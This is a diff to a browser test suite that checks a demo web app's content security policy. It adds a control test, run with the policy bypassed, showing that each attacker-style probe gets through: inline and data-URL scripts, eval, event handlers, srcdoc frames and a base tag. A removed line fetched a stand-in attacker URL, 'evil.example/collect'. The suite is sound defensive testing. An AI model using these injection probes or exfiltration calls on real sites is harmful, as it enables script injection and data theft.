@@ -1,7 +1,7 @@
 import { afterAll, describe, expect, inject, it } from 'vitest'
 import { openDemo } from './support/openDemo'
 import { ownWorld } from './support/ownWorld'
-import { closeBrowser, expectAccessible, type Look, visit } from './support/visitor'
+import { closeBrowser, expectAccessible, type Look, openBrowser, visit } from './support/visitor'
 
 afterAll(closeBrowser)
 
@@ -169,21 +169,42 @@ describe('connecting over HTTP', () => {
 })
 
 describe('the content security policy', () => {
+  const foreign = inject('worlds')[0]?.sandbox ?? ''
+
   it('blocks every probe', async () => {
     const visitor = await visit(inject('demoAddress'), {
       expected: [/policy|Content Security|violates|TrustedHTML|TrustedScript|Refused|blocked/i],
     })
     const { page } = visitor
     await page.getByRole('button', { name: 'Open the demo store' }).waitFor()
-    const got = await page.evaluate(probe)
-    expect(got).toEqual([])
+    expect(await page.evaluate(probe, foreign)).toEqual([])
     await visitor.close()
+  })
+
+  it('is what blocks them: without it each gets through', async () => {
+    const context = await (await openBrowser()).newContext({ bypassCSP: true })
+    const page = await context.newPage()
+    await page.goto(inject('demoAddress'))
+    await page.getByRole('button', { name: 'Open the demo store' }).waitFor()
+    expect((await page.evaluate(probe, foreign)).toSorted()).toEqual([
+      'base',
+      'data script',
+      'eval',
+      'foreign connect',
+      'frame',
+      'handler',
+      'inline script',
+      'new Function',
+      'srcdoc',
+    ])
+    await context.close()
   })
 })
 
-/** Runs in the page: what an attacker's markup would try. Answers what got through. */
-async function probe(): Promise<string[]> {
+/** Runs in the page: what an attacker's markup would try, on a server of another origin, too. Answers what got through. */
+async function probe(foreign: string): Promise<string[]> {
   const through: string[] = []
+  const waited: Promise<unknown>[] = []
   Reflect.set(window, '__hit', (name: string) => through.push(name))
   const attempt = (name: string, run: () => unknown) => {
     try {
@@ -196,6 +217,8 @@ async function probe(): Promise<string[]> {
   const element = (tag: string, props: Record<string, string>) => {
     const made = document.createElement(tag)
     for (const [name, value] of Object.entries(props)) made.setAttribute(name, value)
+    const isOver = new Promise((done) => ['load', 'error'].forEach((end) => made.addEventListener(end, done)))
+    if (tag === 'script') waited.push(isOver)
     document.body.append(made)
   }
   // From a timer, because the debugger's own calls are not bound by the policy.
@@ -220,7 +243,8 @@ async function probe(): Promise<string[]> {
       done()
     }, 0)
   })
-  const isForeignReached = await fetch('https://evil.example/collect').then(
+  await Promise.all(waited)
+  const isForeignReached = await fetch(foreign, { mode: 'no-cors' }).then(
     () => true,
     () => false,
   )
